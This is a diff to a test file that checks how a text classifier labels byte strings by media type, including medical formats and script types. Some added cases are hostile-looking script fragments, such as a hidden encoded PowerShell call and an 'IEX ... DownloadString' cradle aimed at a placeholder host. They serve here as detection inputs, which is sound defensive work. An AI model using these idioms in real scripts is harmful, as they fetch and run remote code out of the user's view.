@@ -44,6 +44,24 @@ from formats.textual import has_hidden_script, kind_of_text
         (b"a;b;c\n1;2;3\n4;5;6\n", "text/csv"),
         (b'"a","b"\n"1,5","2"\n"3","4"\n', "text/csv"),
         (b"BEGIN:VCARD\n", "text/vcard"),
+        (b"powershell -nop -w hidden -enc AAAA", "text/x-powershell"),
+        (b"IEX(New-Object Net.WebClient).DownloadString('https://x')", "text/x-powershell"),
+        (b"$a = New-Object System.Net.WebClient\n", "text/x-powershell"),
+        (b"rem a job\r\n:: another remark\r\nsetlocal\r\n", "text/x-msdos-batch"),
+        (b"start /min cmd", "text/x-msdos-batch"),
+        (b"#@~^xQAAAA==", "text/x-encoded-script"),
+        (b'x = 1\nSet h = CreateObject("MSXML2.XMLHTTP")\n', "text/vbscript"),
+        (b"H|~^\\&|1|LAB|20240101\rP|1\r", "application/hprim"),
+        (b"<?xml version='1.0'?><kmehrmessage xmlns='x'/>", "application/kmehr+xml"),
+        (b"<Patient xmlns='http://hl7.org/fhir'><id/></Patient>", "application/fhir+xml"),
+        (
+            b"<evenementsPatients xmlns='http://www.hprim.org/hprimXML'/>",
+            "application/hprim+xml",
+        ),
+        (
+            b"From: <Saved by Blink>\nMIME-Version: 1.0\nContent-Type: multipart/related\n\n--x",
+            "application/x-mimearchive",
+        ),
     ],
 )
 def test_each_text_is_what_its_features_say(text: bytes, media_type: str) -> None:
@@ -65,6 +83,9 @@ def test_each_text_is_what_its_features_say(text: bytes, media_type: str) -> Non
         b"{curly} words at the start",
         b"The macro calls On Error Resume Next, says the manual.",
         b"MSH is short for something",
+        b"Start the machine, then press /",
+        b"remark: the patient came in",
+        b"H|I think so",
     ],
 )
 def test_prose_stays_prose(prose: bytes) -> None:
